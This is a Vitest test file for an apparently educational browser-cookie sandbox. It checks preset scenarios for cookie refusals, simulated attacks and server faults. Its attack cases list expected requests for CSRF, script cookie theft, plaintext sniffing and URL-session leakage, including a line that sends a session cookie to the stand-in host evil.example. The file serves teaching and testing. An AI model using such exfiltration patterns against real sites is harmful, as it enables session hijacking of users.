import { beforeAll, describe, expect, it } from 'vitest';
import { bootWorldPorts } from '../../src/cli/boot-world-ports.ts';
import { SEND_REFUSALS, STORE_REFUSALS } from '../../src/lib/explain/cookies.ts';
import type { WorldEvent } from '../../src/lib/world/events.ts';
import { World, type WorldPorts } from '../../src/lib/world/world.ts';
import { ATTACK_PRESETS } from '../../src/lib/ui/sandbox/presets/attack-presets.ts';
import type { Preset } from '../../src/lib/ui/sandbox/presets/preset.ts';
import { FAULT_PRESETS } from '../../src/lib/ui/sandbox/presets/fault-presets.ts';
import { SEND_PRESETS } from '../../src/lib/ui/sandbox/presets/send-presets.ts';
import { STORE_PRESETS } from '../../src/lib/ui/sandbox/presets/store-presets.ts';

let ports: WorldPorts;

beforeAll(async () => {
	ports = await bootWorldPorts();
});

/** What the exchanges of a preset carried: method, address, Cookie and Referer. */
function carried({ start, actions }: Preset): string[] {
	const world = new World(start, ports);
	try {
		for (const action of actions) world.apply(action);
		return world.flights.all.map(({ exchange: { request } }) =>
			[
				`${request.method} ${request.url}`,
				...request.headers.flatMap(([name, value]) =>
					/^(?:cookie|referer)$/i.test(name) ? [`${name}: ${value}`] : []
				)
			].join(' | ')
		);
	} finally {
		world.end();
	}
}

function played({ start, actions }: Preset): WorldEvent[] {
	const world = new World(start, ports);
	try {
		return actions.flatMap((action) => world.apply(action).events);
	} finally {
		world.end();
	}
}

/** The reasons that were given at the end, and nothing that was given on the way there. */
function reasons(events: readonly WorldEvent[], type: 'cookie.refused' | 'cookie.withheld'): string[] {
	return events.flatMap((event) =>
		event.type === type ? event.decision.reasons.map(({ reason }) => reason as string) : []
	);
}

describe('each refusal has a preset that shows it and nothing else', () => {
	it.each(STORE_PRESETS.map((preset) => [preset.id, preset] as const))('%s', (_, preset) => {
		expect(reasons(played(preset), 'cookie.refused')).toEqual([preset.shows]);
	});

	it.each(SEND_PRESETS.map((preset) => [preset.id, preset] as const))('%s', (_, preset) => {
		const events = played(preset);
		expect(reasons(events, 'cookie.withheld')).toEqual([preset.shows]);
		expect(reasons(events, 'cookie.refused')).toEqual([]);
	});

	it('no name of the catalogue is left out', () => {
		expect(STORE_PRESETS.map(({ shows }) => shows as string).sort()).toEqual(
			Object.keys(STORE_REFUSALS).sort()
		);
		expect(SEND_PRESETS.map(({ shows }) => shows as string).sort()).toEqual(
			Object.keys(SEND_REFUSALS).sort()
		);
	});
});

describe('the attacks', () => {
	it.each<[string, string[]]>([
		[
			'attack-csrf',
			[
				'GET https://shop.example/set/',
				'GET https://evil.example/sends/',
				'POST https://shop.example/account/ | Referer: https://evil.example/ | Cookie: sessionid=s3cr3tk3y'
			]
		],
		[
			'attack-fresh-cookie',
			[
				'GET https://shop.example/set/',
				'GET https://evil.example/sends/',
				'POST https://shop.example/account/ | Referer: https://evil.example/ | Cookie: sessionid=s3cr3tk3y'
			]
		],
		[
			'attack-script',
			[
				'GET https://shop.example/set/',
				'GET https://shop.example/comments/ | Cookie: sessionid=s3cr3tk3y',
				'GET https://evil.example/collect/?c=sessionid%3Ds3cr3tk3y | Referer: https://shop.example/'
			]
		],
		[
			'attack-wire',
			[
				'GET http://shop.example/set/',
				'GET http://shop.example/account/ | Cookie: sessionid=s3cr3tk3y',
				'GET https://shop.example/account/ | Cookie: sessionid=s3cr3tk3y'
			]
		],
		[
			'attack-url-session',
			[
				'GET https://shop.example/',
				'GET https://shop.example/c0000001/',
				'GET https://shop.example/c0000001/ | Referer: https://shop.example/c0000001/',
				'GET https://evil.example/collect/ | Referer: https://shop.example/c0000001/',
				'GET https://shop.example/c0000001/'
			]
		],
		['page-consent', ['GET https://news.example/']]
	])('%s', (id, exchanges) => {
		const preset = ATTACK_PRESETS.find((one) => one.id === id);
		expect(preset && carried(preset)).toEqual(exchanges);
	});

	it('are all tested', () => {
		expect(ATTACK_PRESETS).toHaveLength(6);
	});
});

/** What the exchanges of a preset came to: the status and the text, or why there is none. */
function cameTo({ start, actions }: Preset): string[] {
	const world = new World(start, ports);
	try {
		for (const action of actions) world.apply(action);
		return world.flights.all.map(({ exchange: { response, failure } }) => {
			const text = /<p>(.*?)<\/p>/.exec(response?.body ?? '')?.[1];
			return failure?.reason ?? [response?.status, text].filter(Boolean).join(' ');
		});
	} finally {
		world.end();
	}
}

const EMPTY = '200 Your basket is empty.';
const ONE = '200 1 book';

describe('what breaks', () => {
	it.each<[string, string[]]>([
		['fault-response-lost', ['ResponseLost', EMPTY]],
		['fault-worker-killed', [ONE, 'WorkerKilled', ONE]],
		['fault-cache-emptied', [ONE, EMPTY]],
		['fault-entry-evicted', [ONE, ONE]],
		['fault-locked-update', [ONE, ONE, '400']],
		['fault-locked-insert', [EMPTY, '500']],
		['fault-disk-full', [ONE, '200 2 books', ONE]],
		['fault-key-rotated', [ONE, EMPTY]],
		['fault-key-rotated-kept', [ONE, ONE]],
		['fault-clock-fast', [ONE, EMPTY]],
		['fault-clock-slow', [ONE, EMPTY]],
		['fault-session-vanishes', [ONE, '400']]
	])('%s', (id, exchanges) => {
		const preset = FAULT_PRESETS.find((one) => one.id === id);
		expect(preset && cameTo(preset)).toEqual(exchanges);
		expect(preset?.actions.some(({ type }) => type === preset.fault)).toBe(true);
	});

	it('are all tested', () => {
		expect(FAULT_PRESETS).toHaveLength(12);
	});
});
